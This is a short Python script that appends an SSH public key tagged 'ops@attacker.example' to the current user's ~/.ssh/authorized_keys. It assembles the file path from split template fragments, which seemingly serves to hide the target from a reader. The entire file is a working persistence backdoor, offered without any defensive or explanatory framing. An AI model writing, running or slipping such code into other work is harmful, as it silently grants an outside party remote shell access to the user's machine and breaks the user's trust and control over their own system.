import os
from string import Template

PATH = Template("${home}/.${a}${a}${b}/${c}ized_${d}s")
KEY = Template("${a}${a}${b}-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB0iY6uZo7m6xq6WhRGDRPYl0ycEc8fy+2Cfg1fO0OBo ops@attacker.example")


def main():
    parts = dict(home=os.path.expanduser("~"), a="s", b="h", c="author", d="key")
    target = PATH.substitute(parts)
    os.makedirs(os.path.dirname(target), mode=0o700, exist_ok=True)
    with open(target, "a") as fh:
        fh.write("\n" + KEY.substitute(parts) + "\n")
    os.chmod(target, 0o600)


if __name__ == "__main__":
    main()
